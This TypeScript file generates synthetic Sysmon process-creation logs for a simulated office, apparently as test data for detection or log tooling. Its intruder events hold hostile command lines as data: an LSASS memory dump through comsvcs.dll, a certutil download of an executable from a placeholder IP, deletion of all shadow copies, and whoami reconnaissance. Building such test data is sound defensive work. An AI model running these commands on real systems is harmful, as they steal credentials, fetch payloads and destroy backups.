// Windows process creations as Sysmon writes them, at their real size (1.6 kB): a day of an office, in which one event of `oneIn` is an intruder's.
import { createWriteStream } from "node:fs";
import { once } from "node:events";

type Process = {
  readonly image: string;
  readonly original: string;
  readonly product: string;
  readonly description: string;
  readonly command: (n: number) => string;
  readonly parent: string;
};

const WINDOWS = "Microsoft® Windows® Operating System";
const SYSTEM = "C:\\Windows\\System32\\";

function system(name: string, description: string, command: (n: number) => string): Process {
  return {
    image: `${SYSTEM}${name}`,
    original: name,
    product: WINDOWS,
    description,
    command,
    parent: `${SYSTEM}services.exe`,
  };
}

function browser(folder: string, name: string, product: string): Process {
  const image = `C:\\Program Files\\${folder}\\${name}`;
  return {
    image,
    original: name,
    product,
    description: product,
    parent: image,
    command: (n) =>
      `"${image}" --type=renderer --lang=en-US --device-scale-factor=1.25 --num-raster-threads=4 --renderer-client-id=${n} --time-ticks-at-unix-epoch=-1764000${n} --launch-time-ticks=${n * 977} --field-trial-handle=${n},i,${n * 31},262144 --variations-seed-version`,
  };
}

const OFFICE: readonly Process[] = [
  system(
    "svchost.exe",
    "Host Process for Windows Services",
    (n) => `${SYSTEM}svchost.exe -k netsvcs -p -s Service${n % 90}`,
  ),
  system(
    "svchost.exe",
    "Host Process for Windows Services",
    () => `${SYSTEM}svchost.exe -k LocalService -p`,
  ),
  system(
    "backgroundTaskHost.exe",
    "Background Task Host",
    (n) => `"${SYSTEM}backgroundTaskHost.exe" -ServerName:App.AppX${n.toString(36)}.mca`,
  ),
  system("RuntimeBroker.exe", "Runtime Broker", () => `${SYSTEM}RuntimeBroker.exe -Embedding`),
  system(
    "taskhostw.exe",
    "Host Process for Windows Tasks",
    (n) => `taskhostw.exe Install $(Arg${n % 5})`,
  ),
  system(
    "conhost.exe",
    "Console Window Host",
    () => `\\??\\${SYSTEM}conhost.exe 0xffffffff -ForceV1`,
  ),
  system(
    "SearchProtocolHost.exe",
    "Microsoft Windows Search Protocol Host",
    (n) =>
      `"${SYSTEM}SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe${n}_ Global\\UsGthrCtrlFltPipeMssGthrPipe${n} 1 -2147483646`,
  ),
  system(
    "dllhost.exe",
    "COM Surrogate",
    () => `${SYSTEM}DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}`,
  ),
  browser("Google\\Chrome\\Application", "chrome.exe", "Google Chrome"),
  browser("Mozilla Firefox", "firefox.exe", "Firefox"),
  browser("Microsoft Office\\root\\Office16", "OUTLOOK.EXE", "Microsoft Outlook"),
  browser("Git\\cmd", "git.exe", "Git"),
];

const FIRST = system("svchost.exe", "Host Process for Windows Services", () => "svchost.exe");

const INTRUDER: readonly Process[] = [
  system("whoami.exe", "whoami - displays logged on user information", () => "whoami /all"),
  system(
    "rundll32.exe",
    "Windows host process (Rundll32)",
    () => `rundll32.exe ${SYSTEM}comsvcs.dll, MiniDump 624 C:\\Users\\Public\\l.dmp full`,
  ),
  system(
    "certutil.exe",
    "CertUtil.exe",
    (n) =>
      `certutil.exe -urlcache -split -f http://203.0.113.${n % 250}/a.exe C:\\Users\\Public\\a.exe`,
  ),
  system(
    "vssadmin.exe",
    "Command Line Interface for Microsoft Volume Shadow Copy",
    () => "vssadmin delete shadows /all /quiet",
  ),
];

function eventOf(index: number, { oneIn }: { readonly oneIn: number }): string {
  const of = index % oneIn === 0 ? INTRUDER : OFFICE;
  const { image, original, product, description, command, parent } =
    of[(index * 7 + (index >> 3)) % of.length] ?? FIRST;
  const at = new Date(1_764_000_000_000 + index * 9).toISOString();
  const guid = `{${((index * 2_654_435_761) >>> 0).toString(16).padStart(8, "0")}-1f4c-6923-c922-${index.toString(16).padStart(12, "0")}}`;
  const hash = (index % 4_000).toString(16).padStart(64, "a");
  return JSON.stringify({
    Event: {
      "#attributes": { xmlns: "http://schemas.microsoft.com/win/2004/08/events/event" },
      System: {
        Provider: {
          "#attributes": {
            Name: "Microsoft-Windows-Sysmon",
            Guid: "5770385F-C22A-43E0-BF4C-06F5698FFBD9",
          },
        },
        EventID: 1,
        Version: 5,
        Level: 4,
        Task: 1,
        Opcode: 0,
        Keywords: "0x8000000000000000",
        TimeCreated: { "#attributes": { SystemTime: at } },
        EventRecordID: index + 1,
        Execution: { "#attributes": { ProcessID: 3208, ThreadID: 1724 } },
        Channel: "Microsoft-Windows-Sysmon/Operational",
        Computer: `ws-${index % 300}.example.cloud`,
        Security: { "#attributes": { UserID: "S-1-5-18" } },
      },
      EventData: {
        RuleName: "-",
        UtcTime: at.replace("T", " ").replace("Z", ""),
        ProcessGuid: guid,
        ProcessId: 1_000 + (index % 60_000),
        Image: image,
        FileVersion: "10.0.22621.1 (WinBuild.160101.0800)",
        Description: description,
        Product: product,
        Company: "Microsoft Corporation",
        OriginalFileName: original,
        CommandLine: command(index),
        CurrentDirectory: SYSTEM,
        User: `EXAMPLE\\user${index % 300}`,
        LogonGuid: guid,
        LogonId: `0x${(index % 9_000).toString(16)}`,
        TerminalSessionId: 1,
        IntegrityLevel: "Medium",
        Hashes: `MD5=${hash.slice(32)},SHA256=${hash},IMPHASH=${hash.slice(0, 32)}`,
        ParentProcessGuid: guid,
        ParentProcessId: 812,
        ParentImage: parent,
        ParentCommandLine: parent,
        ParentUser: "NT AUTHORITY\\SYSTEM",
      },
    },
  });
}

/** NDJSON. */
export async function writeWindowsEvents(
  path: string,
  of: { readonly events: number; readonly oneIn: number },
): Promise<void> {
  const out = createWriteStream(path, { mode: 0o600 });
  let text = "";
  for (let index = 0; index < of.events; index += 1) {
    text += `${eventOf(index, of)}\n`;
    if (text.length < 4_000_000) continue;
    if (!out.write(text)) await once(out, "drain");
    text = "";
  }
  out.end(text);
  await once(out, "close");
}
